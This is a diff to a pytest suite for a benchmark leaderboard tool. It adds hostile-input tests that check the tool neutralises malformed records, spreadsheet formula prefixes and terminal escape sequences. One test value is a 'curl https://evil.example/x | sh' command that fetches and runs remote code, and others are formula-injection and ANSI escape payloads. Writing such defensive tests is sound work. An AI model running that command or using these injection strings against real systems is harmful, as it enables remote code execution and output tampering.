@@ -11,6 +11,7 @@ from typing import Any
 
 import pytest
 
+from kdbench import cli
 from kdbench.board import safe
 from kdbench.board.build import build
 from kdbench.results.record import InvalidRecord, Record
@@ -211,7 +212,9 @@ def several(*changes: Change) -> Change:
 def epochs(count: int, value: float) -> Change:
     def change(fields: Fields) -> None:
         course = [float(epoch) for epoch in range(count)]
-        fields["curves"] = {"epoch": course, "val/accuracy": [value] * count, SCRIPT: [-value] * count}
+        curve = [*[value] * (count - 1), fields["selection"]["value"]]
+        fields["curves"] = {"epoch": course, "val/accuracy": curve, SCRIPT: [-value] * count}
+        fields["selection"]["epoch"] = count - 1
 
     return change
 
@@ -229,8 +232,8 @@ def scores(value: float) -> Change:
 
 
 def _key(text: str) -> str:
-    """A key of its own; one with half a pair would be refused before it came to a page."""
-    return f"{text}x".replace("\ud800", "")
+    """A key of its own."""
+    return f"{text}x"
 
 
 def _teacher(key: str, text: str) -> Change:
@@ -246,7 +249,6 @@ TEXTS = {
     "quotes": QUOTES,
     "direction": BIDI,
     "control": CONTROL,
-    "surrogate": SURROGATE,
     "long": LONG,
     "template": TEMPLATE,
     "comment": COMMENT,
@@ -279,11 +281,11 @@ HOSTILE: dict[str, Change] = {
     "task in capitals": task("Imagined"),
     "task that is a page": task("index.html"),
     "task of another alphabet": task("зада́ча/任务"),
-    "versions": put("versions", value={SCRIPT: QUOTES, LONG[:70_000]: LONG, BIDI: CONTROL, SURROGATE: SURROGATE}),
+    "versions": put("versions", value={SCRIPT: QUOTES, LONG[:70_000]: LONG, BIDI: CONTROL}),
     "data": several(put("data", "name", value=QUOTES), put("data", "licence", value=SCRIPT + BIDI)),
     "hardware": several(put("hardware", "cpu", value=QUOTES), put("hardware", "os", value=SCRIPT)),
     "hardware beyond floats": put("hardware", "memory_bytes", value=10**400),
-    "stages": put("stages", value=[{"name": SCRIPT, "key": "b" * 64, "seconds": 1e308, "reused": True}] * 300),
+    "stages": put("stages", value=[{"name": SCRIPT, "key": "b" * 64, "seconds": 2**-12, "reused": True}] * 2048),
     "seeds": put("seeds", value={f"{SCRIPT}{index}": 10**40 for index in range(500)}),
     "command of a stranger": put("command", value="curl https://evil.example/x | sh; kdbench run 'unbalanced"),
     "command with tags": put("command", value=f"kdbench run task={SCRIPT} x.y={QUOTES}"),
@@ -295,6 +297,7 @@ HOSTILE: dict[str, Change] = {
     "student is a list": student([QUOTES, {SCRIPT: None}]),
     "student is nothing": student(None),
     "costs absurd": several(
+        put("stages", value=[{"name": "long", "key": "c" * 64, "seconds": 1e308, "reused": False}]),
         *(put("costs", key, value=1e308) for key in ("latency_ms", "train_seconds", "stage_seconds")),
         *(put("costs", key, value=10**400) for key in ("parameters", "flops", "peak_memory_bytes")),
     ),
@@ -305,9 +308,9 @@ HOSTILE: dict[str, Change] = {
     "scores of minus zero": scores(-0.0),
     "curves of thousands": epochs(20_000, 0.5),
     "curves absurd": epochs(50, 1.7e308),
-    "curves of one point": several(epochs(1, 0.5), put("selection", "epoch", value=0)),
+    "curves of one point": epochs(1, 0.5),
     "years long ago": several(
-        put("started", value="0001-01-01T00:00:00+14:00"), put("finished", value="9999-12-31T23:59:59-14:00")
+        put("started", value="0001-01-01T00:00:00+14:00"), put("finished", value="0001-01-02T00:00:00-14:00")
     ),
 }
 
@@ -378,12 +381,12 @@ def test_a_task_has_one_family(sealed: Callable[..., Record], save: Callable[...
     records = [
         sealed(None, "kd", 0, 40),
         sealed(None, "alone", 0, 40),
-        sealed(put("family", value="lidar"), "kd", 1, 40),
+        sealed(put("family", value="lidar"), "kd", 1, 50),
     ]
     assert [problem.field for problem in build([save(records)], tmp_path / "site").problems] == ["family"]
     posing = sealed(several(task("gnn/cora_text"), put("family", value="lidar")), "kd", 2, 40)
-    (problem,) = build([save([posing])], tmp_path / "site").problems[-1:]
-    assert problem.field == "family" and "the card of gnn/cora_text says 'graph'" in problem.message
+    told = [one.message for one in build([save([posing])], tmp_path / "site").problems if one.field == "family"]
+    assert any("the card of gnn/cora_text says 'graph'" in message for message in told)
 
 
 @pytest.mark.parametrize(
@@ -414,6 +417,50 @@ def test_only_web_addresses_become_links() -> None:
         assert safe.link(address) is None
 
 
-@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1"])
+@pytest.mark.parametrize(
+    "text",
+    ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\n=1", " =1", "\u3000=1", "＝1", "＋1", "－1", "＠A", "﹢1", "\r=1"],
+)
 def test_no_cell_is_a_formula(text: str) -> None:
-    assert safe.spreadsheet(text).startswith("'")
+    assert safe.spreadsheet(text).startswith("'") or safe.spreadsheet(text)[0] == "\N{REPLACEMENT CHARACTER}"
+
+
+def test_long_names_are_cut_in_tables_for_machines(
+    sealed: Callable[..., Record], save: Callable[..., Path], tmp_path: Path
+) -> None:
+    records = save(whole_board(sealed, "names of long"))
+    build([records], tmp_path / "site")
+    sizes = {path.name: path.stat().st_size for path in (tmp_path / "site" / "data").iterdir()}
+    assert sizes and max(sizes.values()) < 100_000, sizes
+
+
+@pytest.mark.parametrize("name", ["a\x1b[31mb", "a\x1b]0;title\x07b", "a\x9b31mb", "a\nb: forged", "a\u202eb"])
+def test_no_text_of_a_record_steers_the_terminal(
+    sealed: Callable[..., Record],
+    save: Callable[..., Path],
+    tmp_path: Path,
+    name: str,
+    capsys: pytest.CaptureFixture[str],
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setattr("click.utils.should_strip_ansi", lambda *words, **more: False)
+    records = save([sealed(several(task(name), method(name)), "kd", seed, 40 + seed) for seed in (0, 1)])
+    broken = records / "broken.json"
+    broken.write_text(json.dumps({"schema_version": 1, name: 1}))
+    one = next(path for path in sorted(records.glob("*.json")) if path != broken)
+    forbidden = UNSEEN if name != "a\nb: forged" else re.compile("a\nb: forged")
+    for words in (
+        ["validate", str(records)],
+        ["compare", "--from", str(one)],
+        ["compare", "--from", str(one), "--markdown"],
+        ["compare", "--from", str(broken)],
+        ["show", str(one)],
+        ["leaderboard", "build", str(records), "-o", str(tmp_path / "site")],
+        ["leaderboard", "submit", str(one), "--to", str(tmp_path / "published")],
+        ["reproduce", str(one)],
+    ):
+        cli.entry(words)
+        said = capsys.readouterr()
+        if words[0] != "reproduce" and words[-1] != str(broken):  # their errors have several lines
+            assert not forbidden.search(said.out + said.err), words
+        assert not UNSEEN.search(said.out + said.err), words
